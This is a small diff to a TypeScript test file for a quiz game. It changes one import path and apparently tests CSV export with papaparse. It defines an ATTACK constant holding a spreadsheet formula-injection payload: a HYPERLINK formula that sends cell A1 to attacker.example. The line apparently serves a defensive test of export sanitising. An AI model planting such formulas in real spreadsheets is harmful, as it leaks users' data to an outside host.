@@ -6,7 +6,7 @@ import Papa from "papaparse";
 import type { Question } from "../../src/game/types";
 import { call, startTestApp, type TestApp } from "../support/app";
 import { FakeClock } from "../support/fake-clock";
-import { exactJudge, party, teamSelect, waitForPhase } from "../api/helpers";
+import { exactJudge, party, teamSelect, waitForPhase } from "../support/rest";
 
 const ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for bonus")';
 const ONE: Question[] = [{ category: "Space", question: "Which planet is called the Red Planet?", answer: "Mars", aliases: [] }];
